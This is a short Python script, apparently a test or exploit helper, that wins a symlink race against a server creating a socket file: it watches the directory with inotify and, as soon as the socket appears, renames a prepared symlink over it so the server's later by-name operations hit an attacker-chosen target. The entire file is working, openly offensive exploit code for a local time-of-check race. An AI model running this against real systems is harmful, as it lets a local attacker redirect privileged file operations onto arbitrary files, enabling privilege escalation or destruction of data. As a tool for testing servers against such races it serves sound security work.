#!/usr/bin/env python3
"""symlink-racer PATH TARGET SECONDS: swap a symlink to TARGET in at PATH
the moment something is created at PATH.

An attacker who can write the directory of a socket file, racing the
server that binds it: inotify (IN_CREATE on the directory) wakes us as
soon as bind() has made the file, and rename() puts the symlink, made
beforehand as PATH.lnk, over it in one step. Anything the server then
does to PATH by name lands on TARGET.

Prints "ready" once watching, then "swapped" or "timeout"; exits 0 when it
swapped, 1 on timeout (nothing appeared within SECONDS).
"""
import ctypes
import os
import select
import struct
import sys

IN_CREATE = 0x100


def main():
    path, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    d, name = os.path.split(os.path.abspath(path))
    lnk = path + ".lnk"
    os.symlink(target, lnk)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_CLOEXEC)
    if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE) < 0:
        sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
    print("ready", flush=True)
    while True:
        r, _, _ = select.select([fd], [], [], seconds)
        if not r:
            print("timeout", flush=True)
            sys.exit(1)
        buf = os.read(fd, 65536)
        off = 0
        while off < len(buf):
            _, _, _, n = struct.unpack_from("iIII", buf, off)
            got = buf[off + 16:off + 16 + n].rstrip(b"\0").decode()
            off += 16 + n
            if got == name:
                os.rename(lnk, path)
                print("swapped", flush=True)
                return


if __name__ == "__main__":
    main()
